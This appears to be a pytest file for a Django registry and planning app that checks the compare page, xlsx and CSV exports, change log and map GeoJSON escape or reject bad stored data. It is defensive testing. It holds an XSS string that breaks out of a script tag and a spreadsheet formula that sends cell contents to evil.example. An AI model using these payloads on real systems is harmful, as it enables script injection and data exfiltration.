"""Every output escapes what it writes (issue 7 items 3, 4, 5, 6): the compare page's script
data, the xlsx exports and plan.csv, exports of bad stored values, the map's GeoJSON."""

from __future__ import annotations

import csv
import io
import json
import logging

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from yizhan.web.context import change_context
from yizhan.web.planning.models import Plan
from yizhan.web.registry import models as m

from ..planning.helpers import assignment_for
from .test_csp import inline_scripts

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
MARKUP = "</script><img src=x onerror=a()>"  # fits a code's 32 characters


def test_a_stored_code_with_markup_is_data_on_the_compare_page(pw, world, client_for):
    """The issue's reproduction, with the code stored before codes were validated."""
    sub = world["own"]["subdistrict"]
    m.Committee.objects.filter(code="T001").update(code=MARKUP)  # legacy data: no validation
    a = assignment_for(sub)
    b = {**a, MARKUP: a["H00"]}  # joins the station of H00: it moves
    with change_context(label="test-setup"):
        pa = Plan.objects.create(name="甲", subdistrict=sub, source="imported", assignment=a)
        pb = Plan.objects.create(name="乙", subdistrict=sub, source="imported", assignment=b)
    for role in ("admin", "officer", "viewer"):
        html = client_for(role).get(reverse("planning:compare") + f"?a={pa.pk}&b={pb.pk}"
                                    ).content.decode()
        assert MARKUP not in html and "<img src=x" not in html
        assert "&lt;/script&gt;&lt;img src=x onerror=a()&gt;" in html  # shown as text
        assert inline_scripts(html) == []
        data = html.split('id="compare-maps" type="application/json">')[1].split("</script>")[0]
        assert MARKUP in json.loads(data)["moved"]  # the browser reads the same code


def _export(client, name) -> list[list]:
    response = client.get(reverse(name) + "?export=xlsx")
    assert response.status_code == 200, name
    ws = load_workbook(io.BytesIO(response.content)).active
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    return [[c.value for c in row] for row in ws.iter_rows()]


EXPORTS = [("registry:committee_list", "committees", "name"),
           ("registry:station_list", "stations", "name"),
           ("registry:person_list", "people", "name"),
           ("registry:partyorganisation_list", "party-organisations", "name"),
           ("registry:asset_list", "assets", "description")]


@pytest.mark.parametrize("page, prefix, field", EXPORTS)
def test_a_formula_name_is_text_in_each_export_and_in_the_change_log(page, prefix, field, world,
                                                                    client_for):
    client = client_for("admin")
    obj = next(o for o in world["own"].values() if getattr(o, "_meta").model_name in page)
    response = client.patch(f"/api/registry/{prefix}/{obj.pk}/", {field: FORMULA},
                            content_type="application/json")
    assert response.status_code == 200, response.content  # valid input: only output is the risk
    assert ["'" + FORMULA] in [[v for v in row if v == "'" + FORMULA] for row in
                               _export(client, page)]
    changes = _export(client, "changelog:objectchange_list")
    assert any("'" + FORMULA in row for row in changes)


def test_a_formula_station_label_is_text_in_plan_csv(world, pw, client_for):
    client = client_for("admin")
    assignment = {**pw[("own", "draft")].assignment, "T001": FORMULA}
    made = client.post("/api/planning/plans/", {
        "name": "公式", "subdistrict": world["own"]["subdistrict"].pk, "source": "assignment",
        "assignment": assignment}, content_type="application/json")
    assert made.status_code == 201, made.content
    text = client.get(reverse("planning:plan_download", args=[made.json()["id"]])
                      ).content.decode("utf-8-sig")
    rows = dict(csv.reader(io.StringIO(text)))
    assert rows["T001"] == "'" + FORMULA


def test_exports_still_work_when_a_control_character_is_already_stored(world, client_for):
    """Data stored before the input rule: the export replaces the character, never fails."""
    committee, person = world["own"]["committee"], world["own"]["person"]
    with change_context(label="legacy"):
        for obj in (committee, person):
            obj.name = "旧\x0b数据\x07"
            obj.save()  # no full_clean: as data written before the rule existed
    client = client_for("admin")
    for page in ("registry:committee_list", "registry:person_list",
                 "changelog:objectchange_list"):
        cells = [v for row in _export(client, page) for v in row]
        assert "旧\ufffd数据\ufffd" in cells, page
    # and the pages themselves still render
    assert client.get(reverse("registry:committee_list")).status_code == 200


BAD_GEOMETRY = ['{"type": "Foo"}',
                '{"type": "Polygon", "coordinates": [[[1e400, 22.5], [114.1, 22.6], '
                '[114.2, 22.5], [1e400, 22.5]]]}',
                "not json"]


@pytest.mark.parametrize("url", ["dashboard:committees_geojson", "dashboard:stations_geojson"])
def test_map_endpoints_skip_a_bad_stored_boundary(url, pw, world, client_for, caplog):
    codes = ["H00", "H01", "H10"]
    for code, text in zip(codes, BAD_GEOMETRY):
        m.Committee.objects.filter(code=code).update(geometry=text)  # legacy: bypasses checks
    with change_context(label="test"):  # a logged change: the map caches see a new version
        c = world["own"]["committee"]
        c.households += 1
        c.save()
    client = client_for("viewer")
    with caplog.at_level(logging.WARNING, logger="yizhan.web.registry.snapshot"):
        for base in (reverse(url), "/api/dashboard/" + url.split(":")[1].replace("_", ".")):
            response = client.get(base + "?plan=current")
            assert response.status_code == 200, base
            body = response.content.decode()
            assert "Infinity" not in body and "NaN" not in body
            data = json.loads(body)
            if url.endswith("committees_geojson"):
                shown = {f["properties"]["code"] for f in data["features"]}
                assert shown.isdisjoint(codes) and "H11" in shown
            else:
                assert data["features"]  # the other stations are still drawn
    assert {code for code in codes if any(code in r.getMessage() for r in caplog.records)} \
        == set(codes)
